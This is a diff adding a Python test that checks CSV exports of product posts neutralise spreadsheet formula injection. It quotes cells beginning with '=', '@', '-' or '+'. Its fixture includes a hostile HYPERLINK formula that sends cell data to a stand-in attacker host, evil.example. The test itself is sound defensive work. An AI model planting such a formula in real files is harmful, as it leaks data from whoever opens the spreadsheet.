@@ -231,6 +231,23 @@ def test_csv_output_has_a_bom_one_row_per_post_counts_and_flags(tmp_path):
     ]
 
 
+def test_csv_output_cells_a_spreadsheet_would_run_as_formulas_stay_text_and_read_back_unchanged(tmp_path):
+    """A hostile products file names a product '=HYPERLINK(...)' (and a post may begin with '-' or '@'): in the CSV
+    every such cell starts with ', so the colleague who opens it in a spreadsheet runs nothing."""
+    evil = Product(4, '=HYPERLINK("http://evil.example/?"&A1,"点我")', "保温", "上班族")
+    out = tmp_path / "posts.csv"
+    texts = ["@SUM(1+1) 好物", "- 第一点\n- 第二点", "+86 热线"]
+    posts = [PostResult.of(evil, i, 3, text) for i, text in enumerate(texts, start=1)]
+    write_posts(out, posts)
+    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))[1:]
+    assert {r[1] for r in rows} == {"'" + evil.product} and [r[4][:2] for r in rows] == ["'@", "'-", "'+"]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r), rows
+    assert done_keys(out) == {evil.key}  # read back as written: the ' is the file's, not the post's
+    append_posts(out, [PostResult.of(CUP, 1, 1, "=1+1")])
+    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))[1:]
+    assert [r[4] for r in rows] == ["'@SUM(1+1) 好物", "'- 第一点\n- 第二点", "'+86 热线", "'=1+1"]  # rewritten once, not twice
+
+
 def test_xlsx_output_keeps_text_as_text(tmp_path):
     out = tmp_path / "posts.xlsx"
     write_posts(out, [PostResult.of(CUP, 1, 1, "=1+1 好物\x07")])
